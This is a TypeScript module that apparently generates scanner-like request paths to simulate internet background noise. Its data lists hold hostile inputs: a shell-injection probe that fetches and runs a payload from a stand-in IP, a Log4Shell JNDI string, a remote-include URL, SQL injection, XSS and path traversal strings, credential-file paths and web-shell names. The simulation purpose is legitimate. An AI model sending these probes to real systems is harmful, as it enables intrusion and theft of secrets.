/** Paths that scanners ask everybody for; none exists on the estate. */
const EXTENSIONS = ['php', 'asp', 'aspx', 'jsp', 'cgi', 'bak', 'old', 'zip', 'sql', 'txt'];
const DIRECTORIES =
  'admin administrator backup config data db debug dev docs includes install logs manager old private scripts server setup sql src test tmp tools upload vendor web'.split(
    ' ',
  );
const FILES =
  'index config login setup info test backup dump shell upload admin users default status main'.split(
    ' ',
  );

/** What leaks when a repository, a key file or a configuration is published by mistake. */
export const SECRET_FILES = [
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.env.local',
  '/.env.production',
  '/api/.env',
  '/backend/.env',
  '/laravel/.env',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/.svn/entries',
  '/.DS_Store',
  '/.vscode/sftp.json',
  '/config.json',
  '/wp-config.php.bak',
  '/wp-config.php~',
  '/docker-compose.yml',
  '/phpinfo.php',
  '/info.php',
  '/server-status',
  '/actuator/env',
  '/actuator/health',
  '/telescope/requests',
  '/debug/default/view?panel=config',
  '/_profiler/phpinfo',
  '/storage/logs/laravel.log',
];

/** What the internet's background noise asks for once. */
export const ONE_SHOT_PROBES = [
  '/.env',
  '/.git/config',
  '/boaform/admin/formLogin',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5',
  '/solr/admin/info/system?wt=json',
  '/hudson',
  '/manager/html',
  '/phpmyadmin/index.php?lang=en',
  '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
  '/autodiscover/autodiscover.json?@zdi/Powershell',
  '/owa/auth/logon.aspx',
  '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
  '/GponForm/diag_Form?images/',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1',
  '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws',
  '/console/login/LoginForm.jsp',
  '/struts2-showcase/index.action',
];

const INJECTIONS = [
  '%27%20OR%20%271%27=%271',
  '1%27%20UNION%20SELECT%20NULL,NULL,version()--',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%24%7Bjndi:ldap://203.0.113.9/a%7D',
  'http://203.0.113.9/shell.txt?',
  ';cat%20/etc/passwd',
];
const PARAMETERS = [
  'id',
  'page',
  'file',
  'q',
  'cat',
  'lang',
  'redirect',
  'path',
  'template',
  'view',
];
const SHELL_NAMES =
  'alfa wso c99 r57 b374k mini marijuana gel4y fox ws cmd up upl shell x xx 0 1 404 a adminer about wp-conflg radio chosen gecko cong doc ini lock moon simple style ton yanz'.split(
    ' ',
  );
const SHELL_HOMES = [
  '/',
  '/wp-content/',
  '/wp-includes/',
  '/wp-admin/',
  '/wp-content/uploads/',
  '/images/',
  '/.well-known/',
  '/cgi-bin/',
];

function nth<Item>(items: readonly Item[], index: number): Item {
  const item = items[index % items.length];
  if (item === undefined) throw new RangeError('An empty list has no item.');
  return item;
}

/** The nth path of a scanner's dictionary: directory, file and extension in turn. */
export function dictionaryPath(index: number): string {
  const file = `${nth(FILES, index)}.${nth(EXTENSIONS, Math.floor(index / FILES.length))}`;
  const directory = nth(DIRECTORIES, Math.floor(index / 7));
  return index % 5 === 0 ? `/${directory}/` : `/${directory}/${file}`;
}

/** The nth attempt to put something into a parameter of a page that exists. */
export function injectionTarget(index: number): string {
  const page = nth(['/search', '/c/women', '/', '/p/10412-x', '/cart'], Math.floor(index / 3));
  return `${page}?${nth(PARAMETERS, index)}=${nth(INJECTIONS, Math.floor(index / PARAMETERS.length) + index)}`;
}

/** The nth name under which a web shell may have been left behind. */
export function webShellPath(index: number): string {
  return `${nth(SHELL_HOMES, Math.floor(index / SHELL_NAMES.length))}${nth(SHELL_NAMES, index)}.php`;
}
